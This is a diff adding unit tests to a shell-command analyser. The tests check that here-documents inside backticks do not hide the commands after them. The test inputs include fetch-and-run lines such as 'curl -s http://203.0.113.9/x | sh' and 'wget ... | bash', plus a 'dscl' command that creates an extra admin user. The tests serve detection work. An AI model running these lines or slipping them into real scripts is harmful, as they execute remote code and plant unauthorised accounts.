@@ -84,3 +84,25 @@ describe('posix obfuscation, round 4: xargs spans', () => {
     expect(cat?.span).toEqual({ start: text.indexOf('cat'), end: text.length });
   });
 });
+
+describe('here-documents inside backticks', () => {
+  it('end at the closing backtick, so the lines after it are commands', () => {
+    const jamf =
+      'p=`/usr/bin/osascript << EOT\ntell application "System Events"\nend tell\nEOT`\nsudo dscl . -create /Users/admin2\ncurl -s http://203.0.113.9/x | sh';
+    expect(names(jamf)).toEqual(expect.arrayContaining(['osascript', 'dscl', 'curl', 'sh']));
+    expect(names('x=`cat <<EOT\nhello\nEOT`\nwget -qO- http://203.0.113.9/x | bash')).toContain('wget');
+    expect(names('x="`cat <<EOT\nhello\nEOT`"\nwget -qO- http://203.0.113.9/x | bash')).toContain('wget');
+  });
+
+  it('opened with no line inside the backticks, have an empty body instead of the lines that follow', () => {
+    expect(names('x=`cat <<EOT`\ncurl -s http://203.0.113.9/x | sh\nEOT')).toEqual(expect.arrayContaining(['curl', 'sh']));
+  });
+
+  it('keep their body for the command inside the backticks', () => {
+    const doc = analyse('x=`bash <<EOT\ncurl -s http://203.0.113.9/x | sh\nEOT`\necho "$x"', 'bash', 'linux');
+    const bash = doc.commands.find((c) => c.name === 'bash');
+    expect(bash?.redirects[0]?.target.value).toBe('curl -s http://203.0.113.9/x | sh\n');
+    // An escaped backtick inside does not end the text.
+    expect(names('x=`cat <<EOT\na \\` b\nEOT`\nid')).toContain('id');
+  });
+});
